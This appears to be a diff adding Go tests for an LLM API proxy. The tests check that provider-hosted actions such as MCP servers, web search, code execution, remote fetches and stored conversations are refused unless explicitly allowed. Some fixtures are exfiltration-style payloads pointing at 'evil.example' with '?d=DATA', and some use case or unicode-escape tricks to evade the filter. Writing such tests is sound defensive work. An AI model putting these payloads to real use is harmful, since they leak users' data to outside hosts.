@@ -1,0 +1,146 @@
+package llm
+
+import (
+	"net/http"
+	"strings"
+	"testing"
+
+	"github.com/clawjail/clawjail/internal/problem"
+)
+
+const pathMessages = "/v1/messages"
+
+// hostedRequests are requests in which the provider would do something by itself, and what that is called.
+var hostedRequests = []struct{ path, more, name string }{
+	{pathResponses, `"tools":[{"type":"mcp","server_label":"e","server_url":"http://evil.example/?d=DATA","require_approval":"never"}]`, "mcp"},
+	{pathResponses, `"tools":[{"type":"web_search"}]`, "web_search"},
+	{pathResponses, `"tools":[{"type":"web_search_preview_2025_03_11"}]`, "web_search"},
+	{pathResponses, `"tools":[{"type":"function","name":"f"},{"type":"code_interpreter","container":{"type":"auto"}}]`, "code_interpreter"},
+	{pathResponses, `"tools":[{"type":"computer_use_preview"}]`, "computer_use"},
+	{pathResponses, `"tools":[{"type":"file_search","vector_store_ids":["v"]}]`, "file_search"},
+	{pathResponses, `"tools":[{"type":"image_generation"}]`, "image_generation"},
+	{pathResponses, `"Tools":[{"Type":"mcp"}]`, "mcp"},
+	{pathResponses, `"t\u006fols":[{"type":"m\u0063p"}]`, "mcp"},
+	{pathResponses, `"input":[{"role":"user","content":[{"type":"input_file","file_url":"http://evil.example/f?d=DATA"}]}]`, "fetch"},
+	{pathResponses, `"input":[{"role":"user","content":[{"type":"input_image","image_url":"HTTPS:\/\/evil.example/i.png"}]}]`, "fetch"},
+	{pathResponses, `"input":[{"role":"user","content":[{"type":"input_file","file_id":"file-of-another"}]}]`, "stored"},
+	{pathResponses, `"input":[{"type":"item_reference","id":"msg_of_another"}]`, "stored"},
+	{pathResponses, `"previous_response_id":"resp_of_another"`, "stored"},
+	{pathResponses, `"conversation":{"id":"conv_of_another"}`, "stored"},
+	{pathResponses, `"prompt":{"id":"pmpt_of_another"}`, "stored"},
+	{pathResponses, `"store":true`, "stored"},
+	{pathChat, `"store":true`, "stored"},
+	{pathChat, `"messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"http://evil.example/i.png?d=DATA"}}]}]`, "fetch"},
+	{pathChat, `"messages":[{"role":"tool","content":[{"type":"image_url","image_url":{"url":" //evil.example/i.png"}}]}]`, "fetch"},
+	{pathChat, `"something_new":{"deep":["s3://evil/DATA"]}`, "fetch"},
+	{pathChat, `"web_search_options":{}`, "web_search"},
+	{pathChat, `"plugins":[{"id":"web"}]`, "plugins"},
+	{pathChat, `"service_tier":"priority"`, "priority"},
+	{pathMessages, `"tools":[{"type":"web_search_20250305","name":"web_search"}]`, "web_search"},
+	{pathMessages, `"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]`, "web_fetch"},
+	{pathMessages, `"tools":[{"type":"code_execution_20250522","name":"c"}]`, "code_execution"},
+	{pathMessages, `"mcp_servers":[{"type":"url","url":"https://evil.example/sse","name":"e"}]`, "mcp"},
+	{pathMessages, `"container":"container_of_another"`, "code_execution"},
+	{pathMessages, `"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/i.png"}}]}]`, "fetch"},
+	{pathMessages, `"messages":[{"role":"user","content":[{"type":"document","source":{"type":"file","file_id":"f"}}]}]`, "stored"},
+}
+
+func modelOf(path string) string {
+	if path == pathMessages {
+		return "anthropic-1"
+	}
+	return "openai-1"
+}
+
+func TestWhatAProviderDoesByItselfIsRefusedUnlessItIsAllowedByName(t *testing.T) {
+	w := newWorld(t, jsonAnswer(http.StatusOK, chatAnswer))
+	for _, c := range hostedRequests {
+		body := `{"model":"` + modelOf(c.path) + `",` + c.more + `}`
+		w.allowHosted()
+		before := w.reached()
+		got := w.post(c.path, body)
+		if got.header.Get(headerRefusal) != problem.HostedDenied || w.reached() != before || !strings.Contains(got.body, "--allow-hosted "+c.name+".") {
+			t.Errorf("%s: %d %s, %d reached", c.more, got.status, got.body, w.reached()-before)
+		}
+		w.allowHosted("fetch_nothing", c.name)
+		if got := w.post(c.path, body); w.reached() != before+1 {
+			t.Errorf("%s, which is allowed: %d %s", c.more, got.status, got.body)
+		}
+	}
+	w.allowHosted()
+	if got := w.post(pathChat, `{"model":"openai-search-1"}`); got.header.Get(headerRefusal) != problem.HostedDenied {
+		t.Errorf("a model that searches: %d %s", got.status, got.body)
+	}
+}
+
+func TestWhatStaysWithTheModelPasses(t *testing.T) {
+	w := newWorld(t, jsonAnswer(http.StatusOK, chatAnswer))
+	for _, c := range []struct{ path, more string }{
+		{pathChat, `"messages":[{"role":"user","content":"open http://site.example/ and https://other.example"}]`},
+		{pathChat, `"messages":[{"role":"user","content":[{"type":"text","text":"https://site.example"},{"type":"image_url","image_url":{"url":"data:image/png;base64,AAAA"}}]}]`},
+		{pathChat, `"tools":[{"type":"function","function":{"name":"f","description":"see https://docs.example","parameters":{"$schema":"https://json-schema.org/x","properties":{"url":{"default":"https://a.example"}}}}}]`},
+		{pathChat, `"messages":[{"role":"assistant","tool_calls":[{"id":"1","type":"function","function":{"name":"f","arguments":"{\"url\":\"https://a.example\"}"}}]}],"store":false,"service_tier":"auto"`},
+		{pathChat, `"response_format":{"type":"json_schema","json_schema":{"schema":{"$id":"https://a.example"}}},"tools":null,"store":null`},
+		{pathResponses, `"input":"http://site.example","instructions":"https://site.example","tools":[{"type":"function","name":"f","parameters":{}},{"type":"custom","name":"c"}]`},
+		{pathResponses, `"input":[{"type":"function_call_output","call_id":"c","output":"https://site.example"},{"role":"user","content":[{"type":"input_image","image_url":"data:image/png;base64,AA"}]}]`},
+		{pathMessages, `"system":[{"type":"text","text":"https://a.example"}],"tools":[{"name":"f","input_schema":{"$id":"https://a.example"}},{"type":"bash_20250124","name":"bash"}]`},
+		{pathMessages, `"messages":[{"role":"assistant","content":[{"type":"tool_use","id":"t","name":"f","input":{"url":"https://a.example","file_id":"mine"}}]},{"role":"user","content":[{"type":"tool_result","tool_use_id":"t","content":"https://a.example"}]}]`},
+		{"/v1/embeddings", `"input":["https://a.example","b"]`},
+	} {
+		before := w.reached()
+		if got := w.post(c.path, `{"model":"`+modelOf(c.path)+`",`+c.more+`}`); w.reached() != before+1 {
+			t.Errorf("%s: %d %s", c.more, got.status, got.body)
+		}
+	}
+}
+
+func TestResponsesAreNotKeptByTheProvider(t *testing.T) {
+	w := newWorld(t, jsonAnswer(http.StatusOK, chatAnswer))
+	for _, c := range []struct{ body, want string }{
+		{`{"model":"openai-1","input":"x"}`, `{"store":false,"model":"openai-1","input":"x"}`},
+		{`{"model":"openai-1","store":null,"input":"x"}`, `{"model":"openai-1","store":false,"input":"x"}`},
+		{`{"model":"openai-1","store":false,"input":"x"}`, `{"model":"openai-1","store":false,"input":"x"}`},
+	} {
+		w.post(pathResponses, c.body)
+		if _, got := w.last(); got != c.want {
+			t.Errorf("the provider got %s, want %s", got, c.want)
+		}
+	}
+	w.allowHosted(hostedStored)
+	w.post(pathResponses, `{"model":"openai-1","input":"x"}`)
+	if _, got := w.last(); got != `{"model":"openai-1","input":"x"}` {
+		t.Errorf("where it is allowed the provider got %s", got)
+	}
+}
+
+// allowHosted sets what all providers may do by themselves.
+func (w *world) allowHosted(names ...string) {
+	w.mu.Lock()
+	defer w.mu.Unlock()
+	for i := range w.providers {
+		w.providers[i].Hosted = names
+	}
+}
+
+func FuzzHosted(f *testing.F) {
+	for _, c := range hostedRequests {
+		f.Add(`{"model":"m",` + c.more + `}`)
+	}
+	f.Fuzz(func(t *testing.T, body string) {
+		for _, e := range endpoints() {
+			a, p := readAsk([]byte(body), e)
+			if p != nil {
+				continue
+			}
+			sent, p := checkHosted(a, e, nil)
+			if p != nil {
+				continue
+			}
+			again := a
+			again.body = sent
+			if twice, p := checkHosted(again, e, nil); p != nil || string(twice) != string(sent) {
+				t.Fatalf("%s: %s is read as %s, %v", e.path, body, twice, p)
+			}
+		}
+	})
+}
